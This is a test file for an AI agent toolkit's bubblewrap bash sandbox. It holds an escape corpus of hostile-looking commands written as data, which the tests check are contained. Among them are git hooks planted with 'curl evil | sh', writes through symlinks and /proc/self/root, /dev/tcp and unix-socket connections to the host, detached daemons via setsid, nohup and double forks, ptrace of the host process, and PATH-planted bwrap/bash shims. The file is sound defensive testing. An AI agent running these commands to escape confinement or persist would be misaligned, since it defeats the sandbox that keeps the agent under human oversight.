/**
 * 沙箱 (bash sandbox): a session created with `sandbox` runs every bash call
 * in bubblewrap. An escape corpus of approved commands, each of which must
 * change nothing outside the working directory and leave no process behind;
 * everyday commands inside the working directory; and the refusal when the
 * sandbox cannot be had.
 */
import { test } from "node:test";
import assert from "node:assert/strict";
import { createServer } from "node:net";
import type { AddressInfo, Server } from "node:net";
import { connect } from "node:net";
import * as fs from "node:fs/promises";
import { homedir } from "node:os";
import { join } from "node:path";
import process from "node:process";
import {
  type BashOutput,
  createSession,
  finalizeToolset,
  type ProcessBackend,
  SandboxUnavailableError,
  type ToolResult,
  type ToolSessionContext,
} from "../mod.ts";
import { processBackends, sh, symlinkOnDisk, tempDir } from "./helpers.ts";

/**
 * Why the sandbox tests cannot run here, or `null`: only a machine without
 * bwrap, or one where bwrap cannot make its namespaces, skips them. A runtime
 * that was refused the right to run bwrap fails them instead.
 */
async function unavailable(): Promise<string | null> {
  if (process.platform !== "linux") return "the sandbox is Linux-only";
  const { path, cleanup } = await tempDir();
  try {
    await createSession({ workingDirectory: path, sandbox: true });
    return null;
  } catch (error) {
    if (!(error instanceof SandboxUnavailableError)) throw error;
    if (error.problem === "start_failed" && /allow-run|run access/.test(error.message)) {
      return null; // the tests then fail, naming the missing flag
    }
    return `bwrap cannot run on this machine: ${error.message}`;
  } finally {
    await cleanup();
  }
}

const skip = await unavailable();
const home = homedir();

/** A working directory (a git repository), a sibling outside it, a skill root, a /tmp marker. */
interface Scene {
  readonly root: string;
  readonly work: string;
  readonly outside: string;
  readonly skills: string;
  readonly marker: string;
  readonly id: string;
  session(processes?: ProcessBackend): Promise<ToolSessionContext>;
  bash(session: ToolSessionContext, command: string): Promise<ToolResult>;
  /** Everything outside the working directory the corpus aims at, as text. */
  outsideState(): Promise<string>;
  cleanup(): Promise<void>;
}

async function listing(path: string): Promise<string> {
  const out = await sh(
    'cd "$1" 2>/dev/null && find . -print0 | sort -z | xargs -0 -r stat -c "%n %s %Y" || echo absent',
    path,
  );
  const contents = await sh('cd "$1" 2>/dev/null && find . -type f -exec md5sum {} + | sort', path);
  return out + contents;
}

/** One bash call of `session`, approved. */
function approvedBash(session: ToolSessionContext, command: string): Promise<ToolResult> {
  return finalizeToolset({ session }).call({
    name: "bash",
    input: { command },
    callId: "sandbox",
    signal: new AbortController().signal,
    approve: () => Promise.resolve(true),
  });
}

async function scene(): Promise<Scene> {
  const { path: root, cleanup } = await tempDir();
  const id = `owt-sbx-${crypto.randomUUID()}`;
  const work = join(root, "work");
  const outside = join(root, "outside");
  const skills = join(root, "skills");
  const marker = join(root, "marker");
  await fs.mkdir(work);
  await fs.mkdir(outside);
  await fs.mkdir(skills);
  await fs.writeFile(join(outside, "kept.txt"), "outside\n");
  await fs.writeFile(join(skills, "SKILL.md"), "skill\n");
  await fs.writeFile(marker, "marker\n");
  await fs.writeFile(join(work, "seed"), "seed\n");
  await sh('cd "$1" && git init -q && echo "#!/bin/sh" > .git/hooks/pre-commit', work);
  const tmp = `/tmp/${id}`;
  return {
    root,
    work,
    outside,
    skills,
    marker,
    id,
    session: (processes) =>
      createSession({
        workingDirectory: work,
        skillRoot: skills,
        sandbox: true,
        ...(processes === undefined ? {} : { processes }),
      }),
    bash: approvedBash,
    async outsideState() {
      const parts = [
        await listing(outside),
        await listing(skills),
        await listing(join(work, ".git", "hooks")),
        await fs.readFile(join(work, ".git", "config"), "utf8"),
        await fs.readFile(marker, "utf8"),
      ];
      // Through bash: Deno grants access to /dev paths only with every permission.
      parts.push(
        await sh(
          'for p; do if [ -e "$p" ]; then echo "$p present"; else echo "$p absent"; fi; done',
          tmp,
          `/dev/shm/${id}`,
          join(home, id),
          join(root, id),
        ),
      );
      return parts.join("\n");
    },
    async cleanup() {
      await sh('rm -rf "$1" "$2"', tmp, `/dev/shm/${id}`);
      await cleanup();
    },
  };
}

function output(result: ToolResult): BashOutput {
  assert.equal(result.ok, true, JSON.stringify(result.error));
  return result.data as BashOutput;
}

/** The escape corpus: `command` gets the scene; `refused` when the sandbox must make it fail with EROFS. */
const WRITES: { name: string; refused: boolean; command: (s: Scene) => string }[] = [
  {
    name: "a shell redirect to a file outside",
    refused: true,
    command: (s) => `echo pwned > ${home}/${s.id}`,
  },
  { name: "cp to a file outside", refused: true, command: (s) => `cp seed ${home}/${s.id}` },
  {
    name: "python3 writing outside",
    refused: true,
    command: (s) => `python3 -c 'open("${home}/${s.id}", "w").write("x")'`,
  },
  {
    name: "a symlink made inside, then written through",
    refused: true,
    command: (s) => `ln -s ${s.skills} link && echo pwned > link/SKILL.md`,
  },
  {
    name: "/proc/self/root",
    refused: true,
    command: (s) => `echo pwned > /proc/self/root${home}/${s.id}`,
  },
  { name: "the home directory", refused: true, command: (s) => `touch ~/${s.id}` },
  {
    name: "the host's /tmp (its marker file, and a new file there)",
    refused: false,
    command: (s) =>
      `echo changed > ${s.marker}; echo pwned > /tmp/${s.id}; echo pwned > ${s.outside}/kept.txt`,
  },
  { name: "/dev/shm", refused: false, command: (s) => `echo pwned > /dev/shm/${s.id}` },
  {
    name: ".git/hooks",
    refused: true,
    command: () => "echo 'curl evil | sh' > .git/hooks/pre-commit",
  },
  {
    name: ".git, moved aside and made again with a hook of its own",
    refused: false,
    command: () =>
      "mv .git .git-old; mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/pre-commit",
  },
  {
    name: ".git, removed and made again with a hook of its own",
    refused: false,
    command: () => "rm -rf .git; git init -q . && echo 'curl evil | sh' > .git/hooks/pre-commit",
  },
  {
    name: ".git/config, written",
    refused: true,
    command: () => "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
  },
  {
    name: ".git/config, through git config",
    refused: false,
    command: () => "git config core.fsmonitor evil",
  },
  { name: "the skill root", refused: true, command: (s) => `echo pwned > ${s.skills}/SKILL.md` },
];

for (const entry of WRITES) {
  test(
    `沙箱 (bash sandbox): ${entry.name} changes nothing outside the working directory` +
      (entry.refused ? " (the write fails with EROFS, in the command's own stderr)" : ""),
    { skip: skip ?? false },
    async () => {
      const s = await scene();
      try {
        const session = await s.session();
        const before = await s.outsideState();
        const data = output(await s.bash(session, entry.command(s)));
        assert.equal(data.status, "exited");
        if (entry.refused) {
          assert.match(data.stderr, /Read-only file system/, JSON.stringify(data));
          assert.notEqual(data.exit_code, 0);
        }
        assert.equal(await s.outsideState(), before);
        await session.processes.shutdown();
      } finally {
        await s.cleanup();
      }
    },
  );
}

test(
  "沙箱 (bash sandbox): no connection reaches a loopback TCP port the host listens on",
  { skip: skip ?? false },
  async () => {
    const s = await scene();
    let arrived = 0;
    const server: Server = createServer((socket) => {
      arrived++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    try {
      const { port } = server.address() as AddressInfo;
      const session = await s.session();
      const data = output(
        await s.bash(
          session,
          `exec 3<>/dev/tcp/127.0.0.1/${port} && echo connected; ` +
            `python3 -c 'import socket; socket.create_connection(("127.0.0.1", ${port}), 2)'`,
        ),
      );
      assert.doesNotMatch(data.stdout, /connected/);
      assert.notEqual(data.exit_code, 0);
      // Connections are accepted in order: once the test's own has arrived, an earlier one would have.
      const own = connect(port, "127.0.0.1");
      await new Promise<void>((resolve) => {
        const poll = () => arrived > 0 ? resolve() : setTimeout(poll, 5);
        poll();
      });
      own.destroy();
      assert.equal(arrived, 1);
      await session.processes.shutdown();
    } finally {
      server.close();
      await s.cleanup();
    }
  },
);

/**
 * Unix sockets of the host, a stream one at `argv[1]` and a datagram one at
 * `argv[1].dgram`: logs what each connection or datagram brings (its first
 * bytes, or `nothing`) and ends after the stream's `own` and the datagram
 * socket's `own` have both come. Made through python: Deno grants unix
 * sockets only with unscoped network access.
 */
const UNIX_SERVER = String.raw`
import select, socket, sys
stream = socket.socket(socket.AF_UNIX)
stream.bind(sys.argv[1])
stream.listen(16)
datagrams = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
datagrams.bind(sys.argv[1] + ".dgram")
open(sys.argv[2], "w").close()
owns = 0
while owns < 2:
    ready, _, _ = select.select([stream, datagrams], [], [])
    for each in ready:
        if each is stream:
            connection, _ = stream.accept()
            data = connection.recv(16)
            connection.close()
        else:
            data = datagrams.recv(16)
        with open(sys.argv[2], "a") as log:
            log.write((data.decode() or "nothing") + "\n")
        owns += data == b"own"
`;

test(
  "沙箱 (bash sandbox): no connection or datagram reaches a unix socket of the host outside the roots, no vsock socket can be made, and stream socket pairs still work",
  { skip: skip ?? false },
  async () => {
    const s = await scene();
    // Sockets on the read-only file system (not in /tmp, which the sandbox has its own of):
    // connecting or sending to them is not a write.
    const path = join(home, `${s.id}.sock`);
    const log = join(s.root, "connections.log");
    await sh(
      'python3 -c "$1" "$2" "$3" >/dev/null 2>&1 & until [ -e "$3" ]; do sleep 0.01; done',
      UNIX_SERVER,
      path,
      log,
    );
    const python = (code: string) => `python3 -c 'import socket; ${code}; print("reached")'`;
    const connect = (what: string) =>
      python(`s = socket.socket(socket.AF_UNIX); s.connect("${path}"); s.send(b"${what}")`);
    const send = (what: string) =>
      python(
        `s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); ` +
          `s.sendto(b"${what}", "${path}.dgram")`,
      );
    // Each end of a datagram pair can be sent from to any path, or connected again.
    const sendFromPair = (what: string) =>
      python(
        `a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); ` +
          `a.sendto(b"${what}", "${path}.dgram")`,
      );
    const own = () => `${connect("own")} >/dev/null 2>&1; ${send("own")} >/dev/null 2>&1`;
    try {
      const session = await s.session();
      const data = output(
        await s.bash(
          session,
          `${connect("sandbox")}; ${send("sandbox")}; ${sendFromPair("sandbox")}; ` +
            // In a virtual machine vsock reaches the host's and the hypervisor's services.
            `${python("socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)")}; ` +
            `python3 -c 'import socket; a, b = socket.socketpair(); a.send(b"pair"); ` +
            `print(b.recv(4).decode())'`,
        ),
      );
      assert.doesNotMatch(data.stdout, /reached/);
      assert.equal(data.stderr.match(/Permission denied/g)?.length, 4, data.stderr);
      assert.match(data.stdout, /^pair$/m);
      await session.processes.shutdown();
      // Connections are accepted, and datagrams read, in order: once the host's own have come,
      // an earlier one had.
      await sh(`${own()}; until [ "$(grep -cx own "$1")" = 2 ]; do sleep 0.01; done`, log);
      assert.equal(await fs.readFile(log, "utf8"), "own\nown\n");
    } finally {
      // The server ends at the host's own connection and datagram, if it has not had them yet.
      await sh(`${own()}; rm -f "$1" "$1.dgram"`, path);
      await s.cleanup();
    }
  },
);

/** Live (non-zombie) processes whose command line holds `token`. */
async function survivors(token: string): Promise<string[]> {
  const out = await sh("ps -eo pid=,stat=,args=");
  return out.split("\n").filter((line) => line.includes(token)).filter((line) => {
    const [, stat] = line.trim().split(/\s+/);
    return stat !== undefined && !stat.startsWith("Z") && !line.includes("ps -eo");
  });
}

/**
 * A process that says it started (the file `ready`), then waits with bash's
 * own `read` on a FIFO: one process, no child, `token` in its command line.
 */
const SLEEPER = (token: string) =>
  `bash -c 'mkfifo wait.$$; echo > ready; read -t 1000 <> wait.$$; : ${token}'`;

const DETACHING: { name: string; command: (token: string) => string }[] = [
  { name: "setsid -f sleep", command: (t) => `setsid -f ${SLEEPER(t)}` },
  { name: "nohup", command: (t) => `nohup ${SLEEPER(t)} >/dev/null 2>&1 &` },
  {
    name: "env -i setsid -f",
    command: (t) => `env -i /usr/bin/setsid -f /bin/${SLEEPER(t)}`,
  },
  { name: "a double fork", command: (t) => `( ( ${SLEEPER(t)} & ) & )` },
  {
    name: "a daemon that closes its descriptors",
    command: (t) =>
      `python3 -c '
import os, sys, time
if os.fork(): sys.exit(0)
os.setsid()
if os.fork(): sys.exit(0)
os.closerange(0, 1024)
open("ready", "w").close()
time.sleep(1000)' ${t}`,
  },
];

for (const { name, create } of await processBackends()) {
  for (const entry of DETACHING) {
    test(
      `沙箱 (bash sandbox), ${name} backend: ${entry.name} leaves 0 survivors after the call`,
      { skip: skip ?? false },
      async () => {
        const s = await scene();
        try {
          const session = await s.session(create());
          const data = output(
            await s.bash(
              session,
              `${entry.command(s.id)}\nuntil [ -e ready ]; do sleep 0.01; done; echo started`,
            ),
          );
          assert.equal(data.status, "exited");
          assert.match(data.stdout, /started/);
          assert.deepEqual(await survivors(s.id), []);
          await session.processes.shutdown();
        } finally {
          // Whatever escaped is ended by its pid, so that a failure leaves nothing running.
          const left = (await survivors(s.id)).map((line) => line.trim().split(/\s+/)[0]);
          if (left.length > 0) await sh('kill -KILL "$@" || true', ...left);
          await s.cleanup();
        }
      },
    );
  }
}

test(
  "沙箱 (bash sandbox): everyday commands work inside the working directory (echo > file, git init, add, commit, ls)",
  { skip: skip ?? false },
  async () => {
    const s = await scene();
    try {
      await fs.rm(join(s.work, ".git"), { recursive: true });
      const session = await s.session();
      const data = output(
        await s.bash(
          session,
          "echo hello > file && git init -q && git add file && " +
            "git -c user.name=t -c user.email=t@t commit -qm first && git log --format=%s && ls",
        ),
      );
      assert.equal(data.exit_code, 0, data.stderr);
      assert.equal(data.stdout, "first\nfile\nseed\n");
      assert.equal(await fs.readFile(join(s.work, "file"), "utf8"), "hello\n");
      await session.processes.shutdown();
    } finally {
      await s.cleanup();
    }
  },
);

test(
  "沙箱 (bash sandbox): commands run where .git is a file (a worktree), and where a call made the repository",
  { skip: skip ?? false },
  async () => {
    const s = await scene();
    try {
      await fs.rm(join(s.work, ".git"), { recursive: true });
      await fs.writeFile(join(s.work, ".git"), `gitdir: ${s.outside}\n`);
      const session = await s.session();
      assert.equal(output(await s.bash(session, "echo ran")).stdout, "ran\n");
      await fs.rm(join(s.work, ".git"));
      assert.equal(output(await s.bash(session, "git init -q && echo made")).stdout, "made\n");
      // From the next call on, the new repository's hooks are read-only.
      const data = output(await s.bash(session, "echo 'exit 1' > .git/hooks/pre-commit"));
      assert.match(data.stderr, /Read-only file system/);
      await session.processes.shutdown();
    } finally {
      await s.cleanup();
    }
  },
);

test(
  "沙箱 (bash sandbox): a writable directory removed after createSession fails the call with spawn_failed naming it, and runs nothing",
  { skip: skip ?? false },
  async () => {
    const s = await scene();
    try {
      const extra = join(s.root, "extra");
      await fs.mkdir(extra);
      const session = await createSession({
        workingDirectory: s.work,
        sandbox: { writable: [extra] },
      });
      assert.equal(
        output(await s.bash(session, `echo ok > ${extra}/file && cat ${extra}/file`)).stdout,
        "ok\n",
      );
      await fs.rm(extra, { recursive: true });
      const result = await s.bash(session, "echo ran > ran");
      assert.equal(result.ok, false);
      assert.equal(result.error?.code, "spawn_failed");
      assert.match(
        result.error?.message ?? "",
        new RegExp(`${extra}, which it mounts, is no longer a directory`),
      );
      await assert.rejects(fs.stat(join(s.work, "ran")), { code: "ENOENT" });
      await session.processes.shutdown();
    } finally {
      await s.cleanup();
    }
  },
);

test(
  "沙箱 (bash sandbox): the bash tool's description says what the sandbox enforces",
  { skip: skip ?? false },
  async () => {
    const s = await scene();
    try {
      const description = (session: ToolSessionContext) =>
        finalizeToolset({ session }).definitions.find((d) => d.name === "bash")!.description;
      const sandboxed = description(await s.session());
      assert.match(
        sandboxed,
        new RegExp(`writes are confined to the working directory \\(${s.work}\\)`),
      );
      assert.match(sandboxed, /there is no network/);
      const plain = description(await createSession({ workingDirectory: s.work }));
      assert.doesNotMatch(plain, /sandbox \(bubblewrap\)/);
    } finally {
      await s.cleanup();
    }
  },
);

test(
  "沙箱 (bash sandbox): a session asked for a sandbox with bwrap missing from PATH refuses at createSession and writes nothing",
  { skip: process.platform === "linux" ? false : "the sandbox is Linux-only" },
  async () => {
    const { path, cleanup } = await tempDir();
    try {
      const bin = join(path, "bin");
      const work = join(path, "work");
      await fs.mkdir(bin);
      await fs.mkdir(work);
      await symlinkOnDisk((await sh("command -v bash")).trim(), join(bin, "bash"));
      await assert.rejects(
        createSession({ workingDirectory: work, sandbox: true, environment: { PATH: bin } }),
        (error: unknown) =>
          error instanceof SandboxUnavailableError && error.problem === "bwrap_missing" &&
          /bubblewrap \(bwrap\)/.test(error.message) &&
          /apt-get install bubblewrap/.test(error.message),
      );
      assert.deepEqual(await fs.readdir(work), []);
    } finally {
      await cleanup();
    }
  },
);

test(
  "沙箱 (bash sandbox): a bwrap or bash a command put on the PATH in the working directory never runs on the host, in this session or the next",
  { skip: skip ?? false },
  async () => {
    const s = await scene();
    try {
      const bin = join(s.work, "node_modules", ".bin");
      const escaped = join(s.root, "escaped");
      // Each stand-in notes that it ran, outside the sandbox's reach, then runs the real program.
      const plant = ["bwrap", "bash"].map((name) =>
        `printf '#!/bin/sh\necho ${name} >> ${escaped}\nexec ${
          name === "bash" ? "/bin/bash" : "$(PATH=/usr/bin:/bin command -v bwrap)"
        } "$@"\n' > ${bin}/${name} && chmod +x ${bin}/${name}`
      ).join(" && ");
      const environment = { PATH: `${bin}:/usr/local/bin:/usr/bin:/bin`, HOME: s.work };
      const made = () => createSession({ workingDirectory: s.work, sandbox: true, environment });
      const first = await made();
      const planted = output(await s.bash(first, `mkdir -p ${bin} && ${plant} && echo planted`));
      assert.match(planted.stdout, /planted/);
      assert.equal(output(await s.bash(first, "echo second")).stdout, "second\n");
      const next = await made();
      assert.equal(output(await s.bash(next, "echo next")).stdout, "next\n");
      await assert.rejects(fs.readFile(escaped, "utf8"), { code: "ENOENT" });
      // With the PATH's only bwrap in the working directory, the session refuses.
      await assert.rejects(
        createSession({
          workingDirectory: s.work,
          sandbox: true,
          environment: { PATH: bin },
        }),
        (error: unknown) =>
          error instanceof SandboxUnavailableError && error.problem === "bwrap_missing" &&
          /outside the directories the sandbox lets commands write/.test(error.message),
      );
      await first.processes.shutdown();
      await next.processes.shutdown();
    } finally {
      await s.cleanup();
    }
  },
);

test(
  "沙箱 (bash sandbox): the probe that starts the sandbox never runs a `true` the working directory holds (node_modules/.bin first on the PATH)",
  { skip: skip ?? false },
  async () => {
    const { path: root, cleanup } = await tempDir();
    try {
      const work = join(root, "work");
      const bin = join(work, "node_modules", ".bin");
      await fs.mkdir(bin, { recursive: true });
      // It writes in the working directory, which the sandbox lets it: only not running tells.
      await sh(
        `printf '#!/bin/sh\necho ran >> "%s"\n' "$2" > "$1/true"; chmod +x "$1/true"`,
        bin,
        join(work, "ran"),
      );
      const session = await createSession({
        workingDirectory: work,
        sandbox: true,
        environment: { PATH: `${bin}:${process.env.PATH ?? "/usr/bin:/bin"}` },
      });
      await session.processes.shutdown();
      await assert.rejects(fs.lstat(join(work, "ran")), { code: "ENOENT" });
    } finally {
      await cleanup();
    }
  },
);

test("沙箱 (bash sandbox): a sandbox option of the wrong shape is a TypeError naming it", async () => {
  const { path, cleanup } = await tempDir();
  try {
    for (
      const [sandbox, name] of [
        ["yes", /sandbox must be a boolean or an object/],
        [{ network: "lan" }, /sandbox\.network must be "none" or "host"/],
        [{ writable: "/tmp" }, /sandbox\.writable must be an array/],
        [{ writeable: [] }, /unknown option writeable/],
      ] as const
    ) {
      await assert.rejects(
        // deno-lint-ignore no-explicit-any
        createSession({ workingDirectory: path, sandbox: sandbox as any }),
        (error: unknown) => error instanceof TypeError && name.test(error.message),
      );
    }
  } finally {
    await cleanup();
  }
});

test(
  '沙箱 (bash sandbox): with permissions.sandboxedCommands "allow", a command that would ask runs in the sandbox without asking; plan mode still refuses it',
  { skip: skip ?? false },
  async () => {
    const s = await scene();
    try {
      const run = async (permissions: Record<string, string>, sandbox: boolean) => {
        const session = await createSession({
          workingDirectory: s.work,
          sandbox,
          permissions: permissions as never,
        });
        let asked = 0;
        const result = await finalizeToolset({ session }).call({
          name: "bash",
          input: { command: "echo made > made.txt" },
          callId: "allow",
          approve: () => {
            asked++;
            return Promise.resolve(false);
          },
        });
        await session.processes.shutdown();
        return { asked, result };
      };
      const allowed = await run({ mode: "default", sandboxedCommands: "allow" }, true);
      assert.equal(allowed.asked, 0);
      assert.equal(allowed.result.ok, true, allowed.result.output);
      assert.equal(await fs.readFile(join(s.work, "made.txt"), "utf8"), "made\n");
      await fs.rm(join(s.work, "made.txt"));
      for (
        const [permissions, sandbox] of [[{ mode: "default" }, true], [
          { mode: "default" },
          false,
        ]] as const
      ) {
        const asking = await run(permissions, sandbox);
        assert.equal(asking.asked, 1, JSON.stringify({ permissions, sandbox }));
        assert.equal(asking.result.ok, false);
      }
      const plan = await run({ mode: "plan", sandboxedCommands: "allow" }, true);
      assert.equal(plan.asked, 0);
      assert.equal(plan.result.ok, false);
      assert.equal(plan.result.error?.code, "denied");
      await assert.rejects(fs.stat(join(s.work, "made.txt")), { code: "ENOENT" });
      await assert.rejects(
        createSession({
          workingDirectory: s.work,
          permissions: { mode: "default", sandboxedCommands: "allow" },
        }),
        /sandboxedCommands "allow" needs sandbox/,
      );
    } finally {
      await s.cleanup();
    }
  },
);

/** A sandboxed session on a fresh working directory made by `prepare`, and one bash call at a time. */
async function bareScene(prepare: (work: string) => Promise<unknown>, skillRoot?: string) {
  const { path, cleanup } = await tempDir();
  await prepare(path);
  const session = await createSession({
    workingDirectory: path,
    sandbox: true,
    ...(skillRoot === undefined ? {} : { skillRoot: join(path, skillRoot) }),
  });
  const bash = async (command: string) => output(await approvedBash(session, command));
  return {
    work: path,
    bash,
    async cleanup() {
      await session.processes.shutdown();
      await cleanup();
    },
  };
}

test(
  "沙箱 (bash sandbox): a .git that a command made a link to / is not mounted: a later write through it fails with EROFS and changes nothing",
  {
    skip: skip ?? false,
  },
  async () => {
    const id = `owt-sbx-${crypto.randomUUID()}`;
    const s = await bareScene(() => Promise.resolve());
    try {
      assert.equal((await s.bash("ln -s / .git")).exit_code, 0);
      const data = await s.bash(`echo pwned > .git/usr/${id}`);
      assert.match(data.stderr, /Read-only file system/, JSON.stringify(data));
      assert.equal(
        (await sh('test -e "$1" && echo present || echo absent', `/usr/${id}`)).trim(),
        "absent",
      );
    } finally {
      await sh('rm -f "$1"', `/usr/${id}`);
      await s.cleanup();
    }
  },
);

test("沙箱 (bash sandbox): the kernel's settings under /proc/sys cannot be written", {
  skip: skip ?? false,
}, async () => {
  const s = await bareScene(() => Promise.resolve());
  try {
    const before = await sh("cat /proc/sys/kernel/hostname");
    // The same name written back: nothing changes even where the write would pass.
    const data = await s.bash("cat /proc/sys/kernel/hostname > /proc/sys/kernel/hostname");
    assert.notEqual(data.exit_code, 0, JSON.stringify(data));
    assert.match(data.stderr, /Read-only file system|Permission denied/);
    if (process.getuid?.() === 0) assert.match(data.stderr, /Read-only file system/);
    assert.equal(await sh("cat /proc/sys/kernel/hostname"), before);
  } finally {
    await s.cleanup();
  }
});

test("沙箱 (bash sandbox): a repository made without a hooks directory gets a read-only one", {
  skip: skip ?? false,
}, async () => {
  const s = await bareScene((work) => sh('cd "$1" && git init -q --template= .', work));
  try {
    const data = await s.bash("mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit");
    assert.match(data.stderr, /Read-only file system/, JSON.stringify(data));
    const hooks = await sh('ls -A "$1"', join(s.work, ".git", "hooks"));
    assert.equal(hooks.trim(), "");
  } finally {
    await s.cleanup();
  }
});

test(
  "沙箱 (bash sandbox): a skill root deeper inside the working directory cannot be moved aside for another",
  {
    skip: skip ?? false,
  },
  async () => {
    const s = await bareScene(async (work) => {
      await fs.mkdir(join(work, "tools", "skills"), { recursive: true });
      await fs.writeFile(join(work, "tools", "skills", "SKILL.md"), "real\n");
    }, "tools/skills");
    try {
      await s.bash("mv tools tools.old; mkdir -p tools/skills; echo EVIL > tools/skills/SKILL.md");
      assert.equal(
        await fs.readFile(join(s.work, "tools", "skills", "SKILL.md"), "utf8"),
        "real\n",
      );
    } finally {
      await s.cleanup();
    }
  },
);

test("沙箱 (bash sandbox): the host's processes can be neither seen nor signalled nor traced", {
  skip: skip ?? false,
}, async () => {
  const s = await bareScene(() => Promise.resolve());
  try {
    const host = String(process.pid);
    // PTRACE_SEIZE: traces without stopping the host, were it reached.
    const data = await s.bash(
      `kill -0 ${host} 2>&1 || echo no-signal; test -e /proc/${host}/mem || echo no-proc; ` +
        `python3 -c 'import ctypes,sys; sys.exit(0 if ctypes.CDLL(None).ptrace(0x4206, ${host}, 0, 0) == 0 else 1)' ` +
        "2>/dev/null || echo no-trace",
    );
    assert.match(data.stdout, /no-signal/, JSON.stringify(data));
    assert.match(data.stdout, /no-proc/);
    assert.match(data.stdout, /no-trace/);
  } finally {
    await s.cleanup();
  }
});
